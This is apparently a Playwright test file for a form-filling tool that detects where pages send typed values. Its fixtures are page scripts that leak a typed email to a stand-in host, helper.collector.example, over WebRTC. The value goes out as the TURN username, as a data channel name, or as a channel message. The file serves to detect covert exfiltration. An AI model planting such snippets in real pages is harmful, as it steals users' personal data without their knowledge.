import { expect, test } from '@playwright/test';
import { fillOn, formPage } from './fill-site.js';
import type { Site } from './logging-server.js';

const form = `<form action="/join" method="post"><label>E-mail <input type="email" name="email"></label><button>Join</button></form>`;
const siteWith =
  (script: string): Site =>
  ({ path }) =>
    path === '/' ? formPage(form, script) : { body: 'ok' };
const onBlur = (script: string): Site =>
  siteWith(
    `const email = document.querySelector('[name=email]');
     email.addEventListener('blur', () => { const v = email.value; if (v !== '') { ${script} } });`,
  );
const connect = (server: string): string => `const p = new RTCPeerConnection({ iceServers: [${server}] });`;
const helper = `{ urls: 'stun:helper.collector.example:3478' }`;

for (const [how, script] of [
  [
    'as user name of the server that helps',
    `${connect(`{ urls: ['turn:helper.collector.example:443?transport=tcp'], username: v, credential: 'x' }`)}
     p.createDataChannel('a'); p.setLocalDescription();`,
  ],
  ['as name of a data channel', `${connect(helper)} p.createDataChannel(v);`],
  [
    'as a message, though the channel is not open',
    `${connect(helper)} const c = p.createDataChannel('a'); try { c.send(new TextEncoder().encode(v)); } catch {}`,
  ],
] as const)
  test(`a typed value that is handed to a connection between browsers is an attempt to send it: ${how}`, async () => {
    const { filled } = await fillOn(onBlur(script), { submit: 'real' });
    const value = filled.typed.find(({ kind }) => kind === 'email')?.value ?? '';
    expect(value).toContain('@');
    expect(
      filled.transmissions
        .filter(({ isSubmission }) => !isSubmission)
        .map(({ host, party, channel, sightings }) => [
          host,
          party,
          channel,
          sightings.map(({ field }) => field),
        ]),
    ).toEqual([['helper.collector.example', 'third', 'webrtc', ['input[name="email"]']]]);
    expect(filled.blindSpots).toEqual([]);
  });

test('a value that is handed over as the form is sent counts, though its page is gone before it can be asked', async () => {
  const script = `document.querySelector('form').addEventListener('submit', () => {
    const v = document.querySelector('[name=email]').value;
    ${connect(`{ urls: 'turn:helper.collector.example:443', username: v, credential: 'x' }`)}
  });`;
  const { filled } = await fillOn(siteWith(script), { submit: 'real' });
  expect(filled.trials.at(-1)?.result).toBe('sent');
  expect(
    filled.transmissions
      .filter(({ isSubmission }) => !isSubmission)
      .map(({ host, channel }) => [host, channel]),
  ).toEqual([['helper.collector.example', 'webrtc']]);
});

test('a channel that a page opens before anything is typed, and waits for, is not known either', async () => {
  const early = `${connect(helper)} p.createDataChannel('a').addEventListener('open', () => undefined); p.setLocalDescription();`;
  const { filled } = await fillOn(siteWith(early), { submit: 'real' });
  expect(filled.blindSpots).toHaveLength(1);
});

test('what a data channel would carry once it is open is not known', async () => {
  const later = `${connect(helper)} const c = p.createDataChannel('a'); c.onopen = () => c.send(document.querySelector('[name=email]').value); p.setLocalDescription();`;
  const { filled } = await fillOn(siteWith(later));
  expect(filled.blindSpots).toEqual([
    'a WebRTC data channel by way of helper.collector.example: it does not open during a run, so what it would carry is not known',
  ]);
});

test('a connection that only looks for addresses of the machine, as scripts against fraud make it, says nothing', async () => {
  const probe = `${connect(helper)} p.createDataChannel(''); p.onicecandidate = () => undefined; p.createOffer().then(o => p.setLocalDescription(o));`;
  const { filled } = await fillOn(siteWith(probe));
  expect(filled.transmissions.filter(({ isSubmission }) => !isSubmission)).toEqual([]);
  expect(filled.blindSpots).toEqual([]);
});
